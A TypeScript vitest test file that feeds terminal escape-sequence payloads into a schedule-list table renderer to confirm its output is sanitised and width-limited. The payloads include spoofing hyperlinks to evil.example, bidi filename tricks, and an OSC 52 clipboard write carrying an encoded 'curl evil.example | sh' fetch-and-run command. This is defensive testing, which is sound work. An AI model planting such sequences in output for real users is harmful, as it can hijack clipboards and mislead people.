import { forbiddenCharacters } from '@hn/testing/forbidden-characters';
import { describe, expect, it } from 'vitest';
import { displayWidth } from '../terminal/text';
import { scheduleListTable, type ScheduleListEntry } from './schedule-list';

const PAYLOADS: Record<string, string> = {
  'CSI clear screen': '\x1b[2J\x1b[3J\x1b[H',
  'CSI colours': '\x1b[41;97mALERT\x1b[0m',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\',
  'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  DCS: '\x1bP+q544e\x1b\\',
  'carriage return overwrite': 'harmless\rEVIL    ',
  NUL: 'nul\x00byte',
  'C1 controls and 8-bit CSI': 'c1\u0085\u009b2J\u009d0;t\u009c',
  'bidi overrides': '\u202Egnp.exe\u202C \u2066isolate\u2069',
  'unterminated OSC': 'cut \x1b]8;;https://evil.example/ never terminated',
};

function expectSafe(output: string): void {
  expect(output).not.toContain('\x1b');
  expect(forbiddenCharacters(output)).toEqual([]);
}

describe.each(Object.entries(PAYLOADS))('text from the API with %s', (_, payload) => {
  it('leaves the schedule list safe and within its width', () => {
    const item: ScheduleListEntry = {
      scheduleId: `${payload}-schedule`,
      paused: false,
      spec: { text: `every 1h ${payload}` },
      nextActionTimes: ['2026-01-01T00:00:00.000Z'],
      workflowType: `${payload}Workflow`,
    };
    const output = scheduleListTable([item, item], 70);
    expectSafe(output);
    for (const line of output.split('\n')) expect(displayWidth(line)).toBeLessThanOrEqual(70);
  });
});

describe('the schedule list', () => {
  it('shows one row per schedule, and says when there is none', () => {
    const output = scheduleListTable([
      {
        scheduleId: 'hackernews-ingest',
        paused: true,
        spec: { text: 'every 1h' },
        nextActionTimes: ['2026-01-01T01:00:00.000Z'],
        workflowType: 'HackerNewsIngestWorkflow',
      },
    ]);
    expect(output.split('\n')).toHaveLength(2);
    expect(output).toMatch(
      /^hackernews-ingest +paused +every 1h +2026-01-01T01:00:00.000Z +HackerNewsIngestWorkflow$/m,
    );
    expect(scheduleListTable([])).toBe('No schedules.');
  });
});
